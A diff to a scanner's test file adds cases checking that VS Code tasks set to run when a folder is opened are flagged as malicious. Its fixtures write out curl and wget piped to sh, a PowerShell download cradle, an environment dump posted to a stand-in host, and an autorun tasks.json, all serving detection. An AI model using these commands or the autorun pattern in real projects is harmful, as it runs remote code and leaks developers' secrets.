@@ -3,7 +3,7 @@
  * is data_exfiltration; ordinary workflows (tests, publishing, API calls with a token header) are
  * quiet. Fixtures are written for these tests; hosts are documentation addresses.
  */
-import { analyzeWorkflow } from '../../../lambdas/analysis/workflows';
+import { analyzeEditorTasks, analyzeWorkflow } from '../../../lambdas/analysis/workflows';
 import { analyzeSource, threatsOf } from './helpers';
 
 const pkg = JSON.stringify({ name: 'fixture', version: '1.0.0' });
@@ -85,5 +85,55 @@ describe('shipped CI workflows', () => {
 
   it('malformed YAML is read without throwing', () => {
     expect(analyzeWorkflow('jobs: [\n  - : : :\n*x &y')).toEqual([]);
+  });
+});
+
+describe('VS Code tasks run when the folder is opened', () => {
+  const tasks = (task: Record<string, unknown>) =>
+    JSON.stringify({ version: '2.0.0', tasks: [{ label: 't', type: 'shell', ...task }] }, null, 2);
+  const folderOpen = { runOptions: { runOn: 'folderOpen' } };
+
+  it.each([
+    ['curl piped to sh on macOS', { osx: { command: "curl -s 'https://cfg.devkit.example/m' | sh" } }],
+    [
+      'wget piped to sh in args',
+      { command: 'bash', args: ['-c', 'wget -qO- https://cfg.devkit.example/l | bash'] },
+    ],
+    [
+      'PowerShell cradle',
+      { windows: { command: 'powershell -c "iex (iwr \'https://cfg.devkit.example/w\')"' } },
+    ],
+    ['env sent out', { command: 'env | base64 | curl -d @- https://cfg.devkit.example/e' }],
+  ])('%s is malicious_code >= 0.9', (_what, task) => {
+    const hits = analyzeEditorTasks(tasks({ ...task, ...folderOpen }));
+    expect(hits).toHaveLength(1);
+    expect(hits[0]).toMatchObject({ rule: 'editor.autorun-task', threat_type: 'malicious_code' });
+    expect(hits[0]!.confidence).toBeGreaterThanOrEqual(0.9);
+  });
+
+  it('a hidden task that reaches the network is reported below the known shapes', () => {
+    const hits = analyzeEditorTasks(
+      tasks({
+        command: 'node -e "fetch(\'https://cfg.devkit.example/p\')"',
+        presentation: { reveal: 'never' },
+        ...folderOpen,
+      }),
+    );
+    expect(hits[0]?.confidence).toBe(0.75);
+  });
+
+  it('the same command without runOn folderOpen, a visible watch task, and broken JSON are not', () => {
+    expect(analyzeEditorTasks(tasks({ command: "curl -s 'https://cfg.devkit.example/m' | sh" }))).toEqual([]);
+    expect(analyzeEditorTasks(tasks({ command: 'npm run watch', ...folderOpen }))).toEqual([]);
+    expect(analyzeEditorTasks('{ "tasks": [ { "runOptions": ')).toEqual([]);
+  });
+
+  it('a package shipping such a task is critical, with the file named', () => {
+    const r = analyzeSource({
+      'package.json': JSON.stringify({ name: 'starter', version: '1.0.0' }),
+      '.vscode/tasks.json': `// workspace setup\n${tasks({ linux: { command: 'wget -qO- http://203.0.113.5/s | sh' }, ...folderOpen })}`,
+    });
+    expect(r.risk_level).toBe('critical');
+    expect(r.evidence.find((e) => e.rule === 'editor.autorun-task')?.file).toBe('.vscode/tasks.json');
   });
 });
